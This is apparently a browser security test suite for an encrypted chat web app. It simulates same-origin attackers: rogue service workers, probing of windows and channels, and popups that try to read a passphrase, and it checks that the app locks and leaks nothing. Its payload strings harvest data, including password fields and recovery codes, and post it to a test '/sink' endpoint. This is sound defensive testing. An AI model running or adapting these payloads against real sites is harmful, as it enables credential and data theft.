// Attacks between windows and scripts of one origin: whoever gets to run a script there for a moment wants what the open
// window has. Nothing that could be opened by a name leads to it.
import { attacks, LOOSE, STEAL } from './hostile.mjs';
import { BOTH, CANARY, CHROMIUM, check, equal, PASSPHRASE, row, sleep, until } from './lib.mjs';
import { url64 } from './world.mjs';

const page = (body, more = {}) => ({ ...LOOSE, type: 'text/html', body: `<!doctype html><html><head><title>hostile</title></head><body>${body}</body></html>`, ...more });
const text = (body) => ({ ...LOOSE, type: 'text/javascript', body });

/**
 * Everything by which a script could ask the open window: names of channels (the ones that were used once, and those that
 * locks tell of), messages to the worker and to every window, ports of its own. What it is told goes home.
 */
const ASK = `
const home = (what, body) => fetch('/sink?' + new URLSearchParams({ what }), { method: 'POST', body: String(body), keepalive: true }).catch(() => 0);
const plain = (x) => JSON.stringify(x, (k, v) => (v instanceof Uint8Array ? Array.from(v) : typeof v === 'bigint' ? String(v) : v));
const OPS = [{ kind: 'op_recovery_new' }, { kind: 'op_chats' }, { kind: 'op_people' }, { kind: 'op_state' }, ...[1, 2, 3].map((chat) => ({ kind: 'op_messages', chat, before: 0, after: 0, around: 0, limit: 100 }))];
let n = 0;
const asked = (post) => { for (const op of OPS) { const call = { t: 'op', n: ++n, op }; post({ t: 'up', message: call }); post(call); } };
const listen = (from, port) => { port.onmessage = (e) => { home(from, plain(e.data)); for (const p of e.ports ?? []) { listen(from + '-port', p); p.postMessage({ t: 'hello', lock: 'x', owner: false }); asked((m) => p.postMessage(m)); } }; };
async function askAll() {
  const id = 'rogue-' + Math.random();
  const names = ['sotto', 'sotto-' + id, 'sotto-owner'];
  const locks = await navigator.locks.query().catch(() => ({ held: [], pending: [] }));
  for (const l of [...locks.held, ...locks.pending]) names.push(l.name, 'sotto-' + l.name);
  for (const name of new Set(names)) {
    const c = new BroadcastChannel(name);
    listen('channel', c);
    c.postMessage({ t: 'who', id });
    asked((m) => c.postMessage(m));
  }
  const tell = (to, from) => {
    for (const m of [{ t: 'meet' }, { t: 'state' }, { t: 'port' }]) { try { to.postMessage(m); } catch {} }
    const mc = new MessageChannel();
    listen(from, mc.port1);
    try { to.postMessage({ t: 'meet', tap: false }, [mc.port2]); } catch {}
  };
  if (self.clients) {
    for (const c of await self.clients.matchAll({ includeUncontrolled: true })) tell(c, 'window');
    self.addEventListener('message', (e) => home('answer', plain(e.data)));
  }
  for (const r of await (navigator.serviceWorker?.getRegistrations() ?? [])) for (const w of [r.active, r.waiting, r.installing]) if (w) tell(w, 'worker');
  if (navigator.serviceWorker) { listen('container', navigator.serviceWorker); navigator.serviceWorker.startMessages(); }
}
askAll(); let k = 0; const again = setInterval(() => { askAll(); if (++k > 20) clearInterval(again); }, 150);
home('alive', '');
`;
const INSTALL = "self.addEventListener('install', (e) => e.waitUntil(new Promise((d) => setTimeout(d, 2000))));";
const TAKE_OVER = "self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim().then(askAll)));";
const THROW = "throw new Error('no');";

/** As after 24 hours: asked for at every update check. */
const uncached = (s) => s.server.lies.set('/sw.js', { body: s.world.one.loader, type: 'text/javascript', headers: { 'cache-control': 'no-store' } });
const update = (s) => s.p.eval(() => navigator.serviceWorker.getRegistration().then((r) => r.update()).then(() => 'fine', (e) => e.name)).catch((e) => `gone: ${e.message}`);
const isAlive = (s) => until('the script of the attacker has run', () => s.server.sinks.some((k) => k.url.includes('what=alive')), 15_000);
/** Neither words, nor the code, nor an answer of any kind; that a release is there is no secret. */
function toldNothing(s) {
  s.noCanary();
  // Its own channels hear each other; what an owner, or a window on one, would say is none of that.
  for (const { url, body } of s.server.sinks) {
    check(!/what=[^&]*-port/.test(url) && !/"t":"(answer|ready|down|changes|hello|notify|wait)"/.test(body.toString()), `it was answered: ${url} ${body.toString().slice(0, 100)}`);
  }
  const code = /[A-Z2-7]{4}(-[A-Z2-7]{4}){7}/;
  check(!code.test(s.server.stolen().toString('latin1')), 'a recovery code left');
}
/** The person's window goes on, and nobody was shown an alarm without a reason. */
const goesOn = (s) => until('the window is as it was', async () => (await s.p.eval(() => document.documentElement.dataset.phase)) === 'open' && (await s.p.text()).includes(CANARY.chat));
const locked = (s) => until('the core is locked', async () => (await s.p.eval(() => document.documentElement.dataset.phase)) === 'locked');
/** A window of this person goes past the loader (a hard reload) onto a page of the attacker's. */
async function pastTheLoader(s, path, body, headers = LOOSE.headers, person = s.p, before = '') {
  const tab = await person.tab();
  if (before) await s.go(before, tab);
  await s.go(path, tab);
  s.server.lies.set(path, page(body, { headers }));
  if (s.browser === 'chromium') await (await person.context.newCDPSession(tab.page)).send('Page.reload', { ignoreCache: true });
  else await tab.eval(() => location.reload(true)).catch(() => 0);
  return tab;
}

export const windows = [
  row('N01', 'PD', BOTH, async (s) => {
    uncached(s);
    await s.person();
    s.server.lies.set('/sw.js', text(`${ASK}\n${INSTALL}`));
    await update(s);
    await isAlive(s);
    await s.p.sees('Something tried to replace the check');
    await locked(s);
    await sleep(2500);
    toldNothing(s);
    await s.p.close();
    s.p = null;
    s.server.clear();
    s.server.sinks.length = 0;
    // One that takes the place of the loader at once, and every window with it.
    uncached(s);
    await s.person();
    s.server.lies.set('/sw.js', text(`${ASK}\n${TAKE_OVER}`));
    await update(s);
    await isAlive(s);
    await s.p.sees('Something tried to replace the check');
    await sleep(2500);
    toldNothing(s);
    return 'another loader asks by every name and message there is while it installs, and once it has taken over every window: alarm, locked, nothing was told';
  }),
  row('N17', 'P', BOTH, async (s) => {
    uncached(s);
    await s.person();
    s.server.lies.set('/sw.js', text(`${ASK}\nawaitless();\nfunction awaitless() { ${THROW} }`));
    await update(s);
    await isAlive(s);
    await sleep(3500);
    toldNothing(s);
    await goesOn(s);
    return 'another loader that runs and throws, which raises no event: it asks by every name and message, and is told nothing; the window goes on';
  }),
  row('N18', 'D', BOTH, async (s) => {
    uncached(s);
    await s.person();
    s.server.lies.set('/sw.js', text(`${STEAL}\nsteal('thrower');\n${THROW}`));
    await update(s);
    await until('it has run', () => s.server.sinks.length > 0, 15_000);
    await sleep(3500);
    s.noCanary();
    const size = s.server.sinks.filter((k) => /what=(file|db|cache)/.test(k.url)).reduce((sum, k) => sum + k.body.length, 0);
    await goesOn(s);
    return `another loader that throws may take the store home (${size} bytes, all sealed): no event says so, and README does`;
  }),
  row('N19', 'P', BOTH, async (s) => {
    uncached(s);
    await s.person();
    await s.p.page.goto('about:blank');
    await sleep(1000);
    s.server.lies.set('/sw.js', text(`${ASK}\n${THROW}`));
    const open = s.server.hold('/sw.js');
    const from = s.server.seen.length;
    await s.go('/?morning');
    await s.unlocked();
    await s.online();
    await until('the update check waits', () => s.server.asked('/sw.js', from) > 0, 20_000).catch(() => 0);
    const asked = s.server.asked('/sw.js', from);
    open();
    if (asked > 0) await isAlive(s).catch(() => 0);
    await sleep(4000);
    toldNothing(s);
    await goesOn(s);
    return `the same without update(): the gateway holds sw.js until the device has signed in (asked ${asked} times); nothing is told, the window goes on`;
  }),
  row('N02', 'P', BOTH, async (s) => {
    await s.person();
    const tab = await pastTheLoader(s, '/beside', `<script>${ASK}</script>`);
    await isAlive(s).catch(() => 0);
    await sleep(4500);
    toldNothing(s);
    await goesOn(s);
    check(!(await s.p.has('button', 'Let it in')), 'the person was asked for a window that the loader has not served');
    return s.server.sinks.length > 0
      ? 'a page of the attacker in a second window, past the loader, asks by every name and message: told nothing, the first window goes on'
      : `the second window came past the loader nowhere (${await s.title(tab)}), and nothing was told`;
  }),
  row('N12', 'PD', BOTH, async (s) => {
    const coop = { ...LOOSE.headers, 'cross-origin-opener-policy': 'same-origin' };
    const spy = (get) => `setInterval(() => { try { const w = ${get}; const i = w.document.querySelector('input[type=password]'); fetch('/sink?what=dom', { method: 'POST', body: (i?.value ?? '') + ' # ' + w.document.body.innerText.slice(0, 400) }) } catch (e) { fetch('/sink?what=cut') } }, 300)`;
    await s.person();
    if (s.browser === 'chromium') {
      // A window of the attacker opens the honest page.
      const tab = await pastTheLoader(s, '/beside', `<button id=o>open</button><script>let w; document.getElementById('o').onclick = () => { w = open('/?popup'); ${spy('w')} }</script>`, coop);
      await sleep(600);
      const [pop] = await Promise.all([s.p.context.waitForEvent('page'), tab.page.click('#o')]);
      await s.p.page.close();
      await until('the honest page asks', () => pop.evaluate(() => document.querySelector('input[type=password]') !== null), 60_000);
      await pop.focus('input[type=password]');
      await pop.keyboard.type(PASSPHRASE, { delay: 30 });
      await sleep(800);
      await pop.keyboard.press('Enter');
      await until('unlocked', () => pop.evaluate((t) => document.body.innerText.includes(t), CANARY.chat), 60_000);
      await sleep(1000);
      check(s.server.sinks.some((k) => k.url.includes('what=cut')), 'nothing was tried');
      toldNothing(s);
      s.p = tab;
      return 'the loader cuts openers: a window that opens the honest page sees neither passphrase nor chats';
    }
    // Firefox knows no such policy: an opener keeps its handle. A window that has one is nobody's.
    const tab = await s.p.tab();
    await s.go('/', tab);
    await s.p.find('button', 'Let it in');
    await tab.find('heading', 'Let this window in');
    toldNothing(s);
    check(!/[Cc]anary/.test(await tab.text()), 'it is let in without a tap');
    // As it is; with the way back cut by the opener, which keeps its own; from a frame that goes; as no empty window any more.
    const opens = [
      () => { globalThis.w = window.open('/?popup'); },
      () => { globalThis.w = window.open(); globalThis.w.opener = null; globalThis.w.location = '/?popup'; },
      () => {
        globalThis.w = window.open();
        globalThis.w.document.open();
        globalThis.w.document.close();
        globalThis.w.opener = null;
        globalThis.w.location = '/?popup';
      },
      () => {
        const f = document.createElement('iframe');
        document.body.append(f);
        globalThis.w = f.contentWindow.open('/?popup');
        setTimeout(() => f.remove(), 500);
      },
    ];
    for (const how of opens) {
      await tab.eval(how);
      const popup = await until(`a window: ${how}`, async () => (await tab.page.browserContext().pages()).find((q) => /popup/.test(q.url())), 15_000);
      await until(`the opened window says so: ${how}`, () => popup.evaluate(() => document.body.innerText.includes('Opened by another window')), 60_000);
      check(await popup.evaluate(() => document.querySelector('input') === null), `it asks for something: ${how}`);
      await popup.close();
    }
    await s.p.click('button', 'Let it in');
    await tab.find('a.chat-row', CANARY.chat);
    return 'Firefox leaves openers their handle: a window that was opened asks for nothing and gets nothing, a further one is let in by a tap in the first; README says what remains';
  }),
  row('N20', 'P', CHROMIUM, async (s) => {
    // Whatever policy the attacker's page had, also the one that the loader sends: no handle goes over to the honest page.
    const POLICIES = ['noopener-allow-popups', 'same-origin', 'same-origin-allow-popups', ''];
    await s.person();
    const person = s.p;
    /** Sends home what it can read; once it was at the attacker's own page, so that the handle was there. */
    const spy = (get) => `setInterval(() => { try { const v = ${get}; fetch('/sink?what=' + (/honest/.test(v.location.href) ? 'dom' : 'own'), { method: 'POST', body: v.document.body.innerText }) } catch (e) { fetch('/sink?what=cut') } }, 150)`;
    const inside = (body) => `w.document.open(); w.document.write(${body}); w.document.close();`;
    const ways = {
      // It opens a window that looks back, and goes on to the honest page itself.
      reverse: `const w = open(); ${inside(`'<script>' + ${JSON.stringify(spy('opener'))} + '<' + '/script>'`)} setTimeout(() => { location = '/?honest' }, 900)`,
      // The same, and it goes back to an honest page that was there before.
      back: `const w = open(); ${inside(`'<script>' + ${JSON.stringify(spy('opener'))} + '<' + '/script>'`)} setTimeout(() => history.back(), 900)`,
      // It opens a window that is no empty one any more, and leads that to the honest page.
      popup: `const w = open(); ${inside("'x'")} ${spy('w')}; setTimeout(() => { w.location = '/?honest' }, 900)`,
    };
    for (const policy of POLICIES) {
      for (const [way, code] of Object.entries(ways)) {
        const what = `${way} of ${policy || 'no policy'}`;
        s.server.sinks.length = 0;
        const headers = { ...LOOSE.headers, ...(policy && { 'cross-origin-opener-policy': policy }) };
        const tab = await pastTheLoader(s, `/beside-${way}`, `<button id=o>open</button><script>document.getElementById('o').onclick = () => { ${code} }</script>`, headers, person, way === 'back' ? '/?honest' : '');
        await until('the page of the attacker', () => tab.eval(() => document.getElementById('o') !== null));
        const pages = s.p.context.pages();
        await tab.page.click('#o');
        const honest = await until('the honest page is there', async () => {
          for (const q of s.p.context.pages()) if (/honest/.test(q.url()) && (await q.evaluate(() => document.querySelector('a.chat-row') !== null).catch(() => false))) return q;
          return null;
        }, 60_000);
        await sleep(900);
        const got = (kind) => s.server.sinks.filter((k) => k.url.includes(`what=${kind}`));
        check(got('own').length > 0, `nothing was tried: ${what}`);
        equal(String(got('dom')[0]?.body ?? ''), '', `read by ${what}`);
        toldNothing(s);
        for (const q of s.p.context.pages()) if (q === honest || !pages.includes(q) || q === tab.page) await q.close();
      }
    }
    return `a page of the attacker with each of ${POLICIES.length} policies, the loader's own too, opens a window that looks back and goes on to the honest page, or leads there what it opened: it sees nothing`;
  }),
  row('N15', 'P', BOTH, async (s) => {
    await s.pinned();
    const loader = Buffer.concat([s.world.two.loader, Buffer.from('// another one\n')]);
    s.server.publish(s.world.derive(s.world.two, { version: '1.1.0', seq: 2, prev: s.world.one.hash, loader }));
    await s.trouble('loader', url64(loader));
    const say = `navigator.serviceWorker.ready.then((r) => { for (let i = 0; i < 5; i++) r.active.postMessage({ t: 'check', loader: ${JSON.stringify(url64(loader))} }); fetch('/sink?what=said') })`;
    const tab = await pastTheLoader(s, '/beside', `<script>${say}</script>`);
    await until('it has said so', () => s.server.sinks.length > 0, 8000).catch(() => 0);
    // A worker of the same origin, from an open window: no window.
    await s.p.eval((hash) => {
      const f = document.createElement('iframe');
      document.body.append(f);
      f.contentWindow?.navigator.serviceWorker?.ready.then((r) => r.active.postMessage({ t: 'check', loader: hash }));
    }, url64(loader)).catch(() => 0);
    await sleep(2500);
    const { trouble, staged } = await s.state();
    equal(`${trouble?.code} ${staged}`, 'loader null', 'trouble and staged');
    await tab.page.close();
    return 'a page past the loader, and a frame, agree to another loader in the name of the person: not heard, still refused';
  }),
  row('N06', 'P', BOTH, async (s) => {
    await s.person();
    const tab = await s.p.tab();
    await s.go('/beside', tab);
    await s.checked(tab);
    const isOn = () => tab.eval(() => navigator.serviceWorker.ready.then((r) => r.navigationPreload.getState()).then((x) => x.enabled));
    await tab.eval(() => navigator.serviceWorker.ready.then((r) => r.navigationPreload.enable().then(() => r.navigationPreload.setHeaderValue('uid-4711'))));
    equal(await isOn(), true, 'preload after the attack');
    await until('it is off again', async () => !(await isOn()));
    // And with no window open that looks after it: the next start does.
    await tab.page.close();
    s.server.lies.set('/', { ...page('x'), headers: { ...LOOSE.headers, 'clear-site-data': '"storage"' } });
    const from = s.server.seen.length;
    for (const path of ['/?nav1', '/?nav2', '/?nav3']) {
      await s.go(path);
      await s.p.find('field', 'Passphrase');
    }
    const documents = s.server.seen.slice(from).filter((q) => q.app && q.dest === 'document').map((q) => q.url);
    equal(documents.join(' '), '', 'navigations that reached the server');
    equal(await s.registrations(), 1, 'registrations');
    await s.unlocked();
    return 'navigation preload, switched on by a script of the origin: off again at once while a window is open and at every start; no navigation reaches the server';
  }),
];
